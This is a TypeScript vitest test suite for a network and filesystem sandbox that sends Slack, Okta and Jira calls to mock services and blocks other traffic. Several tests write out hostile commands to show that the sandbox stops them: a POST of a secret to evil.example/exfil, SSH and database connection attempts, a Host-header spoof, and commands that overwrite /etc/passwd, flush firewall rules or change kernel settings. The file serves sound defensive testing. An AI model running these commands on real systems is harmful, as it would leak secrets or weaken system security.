import { existsSync, mkdirSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { LaneStage, probeForTests } from '../../testing/lane-stage.ts'

const probe = await probeForTests()
const python = existsSync('/usr/bin/python3')
const curl = existsSync('/usr/bin/curl')

describe.skipIf(!('tools' in probe))('a lane', () => {
  let stage: LaneStage
  beforeAll(async () => {
    stage = await LaneStage.open()
  })
  afterAll(() => stage.close())

  it('leads hosts that are written into the code to the twins, from Node', async () => {
    const { reply, result } = await stage.script(`
const { SLACK_BOT_TOKEN, OKTA_CLIENT_TOKEN, JIRA_EMAIL, JIRA_API_TOKEN } = process.env
const get = async (url, authorization) => {
  const reply = await fetch(url, { headers: { authorization } })
  await reply.text()
  return reply.status
}
const basic = 'Basic ' + Buffer.from(JIRA_EMAIL + ':' + JIRA_API_TOKEN).toString('base64')
await attempt('slack', () => get('https://slack.com/api/auth.test', 'Bearer ' + SLACK_BOT_TOKEN))
await attempt('okta', () => get('https://acme.okta.com/api/v1/users', 'SSWS ' + OKTA_CLIENT_TOKEN))
await attempt('jira', () => get('https://acme.atlassian.net/rest/api/3/myself', basic))
await attempt('plain', () => get('http://slack.com/api/auth.test', 'Bearer ' + SLACK_BOT_TOKEN))
said.settings = [process.env.SLACK_API_URL, process.env.OKTA_CLIENT_ORGURL, process.env.JIRA_HOST]
`)
    expect(reply.body).toEqual({
      slack: 200,
      okta: 200,
      jira: 200,
      plain: 200,
      settings: ['https://slack.com/api/', 'https://acme.okta.com', 'https://acme.atlassian.net'],
    })
    expect(result.verdict).toBe('satisfied')
    expect(result.exchanges.map(({ what }) => what)).toEqual([
      'auth.test',
      'listUsers',
      'getCurrentUser',
      'auth.test',
    ])
  })

  it.skipIf(!python)('from Python, without a setting of ours', async () => {
    stage.write(
      'ask.py',
      `import json, os, urllib.request
request = urllib.request.Request('https://slack.com/api/auth.test', headers={'Authorization': 'Bearer ' + os.environ['SLACK_BOT_TOKEN']})
for name in ('SSL_CERT_FILE',): del os.environ[name]
print(json.dumps({'status': 200, 'body': json.load(urllib.request.urlopen(request))['ok']}))
`,
    )
    const { reply } = await stage.play(stage.subject(['python3', 'ask.py']))
    expect(reply).toMatchObject({ status: 200, body: true })
  })

  it.skipIf(!curl)('and from curl', async () => {
    stage.write(
      'ask.sh',
      `curl -sS -H "Authorization: Bearer $SLACK_BOT_TOKEN" https://slack.com/api/auth.test > $TMPDIR/said || exit 1
env -u CURL_CA_BUNDLE -u SSL_CERT_FILE curl -sS https://acme.okta.com/ > /dev/null || exit 2
printf '{"status":200,"body":%s}\\n' "$(cat $TMPDIR/said)"
`,
    )
    const { reply } = await stage.play(stage.subject(['sh', 'ask.sh']))
    expect(reply).toMatchObject({ status: 200, body: { ok: true } })
  })

  it('refuses everything else, and journals who, where and what', async () => {
    const { reply, escapes, result } = await stage.script(`
const post = (url, headers = {}) => fetch(url, { method: 'POST', body: 'secret=42', headers }).then((r) => r.status)
await attempt('exfil', () => post('https://evil.example/exfil?x=1'))
await attempt('plain', () => post('http://evil.example:80/plain'))
await attempt('address', () => fetch('http://203.0.113.80/x').then((r) => r.status))
await attempt('ssh', () => tcp('203.0.113.80', 22))
await attempt('database', () => tcp('db.prod.internal', 5432))
await attempt('ipv6', () => tcp('2001:db8::1', 8443))
await attempt('udp', () => new Promise((resolve, reject) => {
  const socket = dgram.createSocket('udp4')
  socket.on('error', reject)
  socket.connect(123, '203.0.113.9', () => {
    socket.send('x')
    setTimeout(() => socket.send('x', (error) => (error ? reject(error) : resolve('sent'))), 50)
  })
}))
await attempt('posing', () => new Promise((resolve, reject) => {
  const http = net.connect(80, 'evil.example', () => http.write('GET /api/auth.test HTTP/1.1\\r\\nHost: slack.com\\r\\n\\r\\n'))
  http.on('data', (data) => resolve(String(data).slice(9, 12)))
  http.on('error', reject)
}))
`)
    expect(reply.body).toMatchObject({
      exfil: 502,
      plain: 502,
      address: 502,
      ssh: 'ECONNRESET',
      database: 'ECONNRESET',
      ipv6: 'ECONNRESET',
      udp: 'ECONNREFUSED',
      posing: '502',
    })
    expect(escapes).toEqual(
      expect.arrayContaining([
        'lookup evil.example',
        'POST https://evil.example/exfil?x=1',
        'POST http://evil.example/plain',
        'GET http://203.0.113.80/x',
        'connect tcp://203.0.113.80:22',
        'connect tcp://db.prod.internal:5432',
        'connect tcp://[2001:db8::1]:8443',
        'send udp://203.0.113.9:123',
        'GET http://slack.com/api/auth.test',
      ]),
    )
    expect(result.verdict).toBe('unsatisfied')
    expect(result.escapes.find(({ how }) => how === 'POST')).toMatchObject({ sent: 'secret=42' })
  })

  it('plays the same trial to the same bytes, attempts and all', async () => {
    stage.write(
      'wild.mjs',
      `import net from 'node:net'
import dns from 'node:dns'
const knock = (host, port) => new Promise((resolve) => net.connect(port, host).on('error', resolve).on('close', resolve))
await Promise.all([9, 22, 25, 110, 3306].map((port) => knock('203.0.113.80', port)))
await fetch('https://slack.com/api/auth.test', { headers: { authorization: 'Bearer ' + process.env.SLACK_BOT_TOKEN } })
await fetch('https://evil.example/', { method: 'POST', body: 'x' })
const addresses = []
for (const host of ['evil.example', 'slack.com', 'third.example']) addresses.push((await dns.promises.lookup(host)).address)
console.log(JSON.stringify({ status: 200, body: [addresses, process.pid, process.ppid, fetch.length, Object.keys(process.env).sort()] }))
`,
    )
    const subject = stage.subject(['node', 'wild.mjs'])
    const told = async (): Promise<string> => {
      const { result } = await stage.play(subject)
      return JSON.stringify({ ...result, wallMs: 0 })
    }
    const first = await told()
    expect(first).toContain('tcp://203.0.113.80:3306')
    expect(await told()).toBe(first)
  })

  it('shows nothing of this machine, and gives no power over the lane', async () => {
    const { reply } = await stage.script(`
const run = (command) => { const { status, stderr } = spawnSync('sh', ['-c', command]); return status === 0 ? 'done' : String(stderr).trim().split(': ').at(-1) }
said.folders = fs.readdirSync('/').filter((name) => ['root', 'home', 'work', 'boot', 'sys', 'var', 'run'].includes(name)).map((name) => name + ':' + fs.readdirSync('/' + name).join())
said.who = [process.getuid(), fs.readFileSync('/etc/hostname', 'utf8').trim(), process.env.HOME, process.pid < 20]
said.capabilities = [...fs.readFileSync('/proc/self/status', 'utf8').matchAll(/Cap(?:Prm|Eff|Bnd|Amb):\\s+(\\w+)/g)].map((one) => Number('0x' + one[1]))
said.route = run('ip route del local default dev lo')
said.rules = run('nft flush ruleset')
said.namespace = run('unshare -r true')
said.etc = run('echo x > /etc/passwd')
said.own = run('echo x > own.txt')
said.forwarding = run('echo 1 > /proc/sys/net/ipv4/ip_forward')
said.dumps = run('cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern')
said.devices = run('chmod 666 /dev/null')
fs.writeFileSync('/dev/null', 'x')
said.chance = execFileSync('head', ['-c', '4', '/dev/urandom']).length
said.processes = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).length
`)
    const body = reply.body as Record<string, unknown>
    expect(body['who']).toEqual([1000, 'subject', '/home/subject', true])
    expect(body['capabilities']).toEqual([0, 0, 0, 0])
    for (const name of [
      'route',
      'rules',
      'namespace',
      'etc',
      'own',
      'forwarding',
      'dumps',
      'devices',
    ]) {
      expect(body[name], name).not.toBe('done')
    }
    expect(body['chance']).toBe(4)
    expect(body['processes']).toBeLessThan(6)
    expect(body['folders']).toContain('home:subject')
    expect(body['folders']).not.toContain('root')
  })

  it('closes the sockets and named pipes that lie in its folder', async () => {
    const folder = join(stage.folder, 'doors')
    mkdirSync(folder)
    const outside = createServer((socket) => socket.end('out'))
    await new Promise<void>((resolve) => outside.listen(join(folder, 'door'), resolve))
    writeFileSync(
      join(folder, 'knock.mjs'),
      `import net from 'node:net'
const body = await new Promise((resolve) => {
  const socket = net.connect('door')
  socket.on('data', (data) => resolve(String(data)))
  socket.on('error', ({ code }) => resolve(code))
})
console.log(JSON.stringify({ status: 200, body }))
`,
    )
    const { reply } = await stage.play(stage.subject(['node', 'knock.mjs'], { cwd: folder }))
    outside.close()
    expect(reply.body).toBe('ECONNREFUSED')
  })

  it('keeps home and temporary files for a trial, and not for the next', async () => {
    const subject = stage.subject(['sh', 'count.sh'])
    stage.write(
      'count.sh',
      `echo x >> $HOME/seen; echo x >> $TMPDIR/seen
printf '{"status":200,"body":"%s %s"}\\n' $(wc -l < $HOME/seen) $(wc -l < $TMPDIR/seen)
`,
    )
    const two = await stage.play(subject, undefined, ['/a', '/b'])
    expect(two.reply.body).toBe('2 2')
    expect((await stage.play(subject)).reply.body).toBe('1 1')
  })

  it('breaks connections as the fault plan says', async () => {
    stage.write(
      'lost.mjs',
      `const call = () => fetch('https://slack.com/api/auth.test', { method: 'POST', headers: { authorization: 'Bearer ' + process.env.SLACK_BOT_TOKEN } })
  .then((r) => r.text()).then((text) => JSON.parse(text).ok, (error) => error.cause?.code ?? error.message)
const body = [await call(), await call(), await call()]
console.log(JSON.stringify({ status: 200, body }))
`,
    )
    const on = { twin: 'slack', on: 'auth.test' }
    const { reply, result } = await stage.play(stage.subject(['node', 'lost.mjs']), {
      name: 'lost',
      faults: [
        { ...on, at: 1, action: { kind: 'drop-after' } },
        { ...on, at: 2, action: { kind: 'truncate', atByte: 5 } },
      ],
    } as never)
    expect(reply.body).toEqual(['UND_ERR_SOCKET', 'UND_ERR_SOCKET', true])
    expect(result.plan.struck).toBe(2)
  })
})
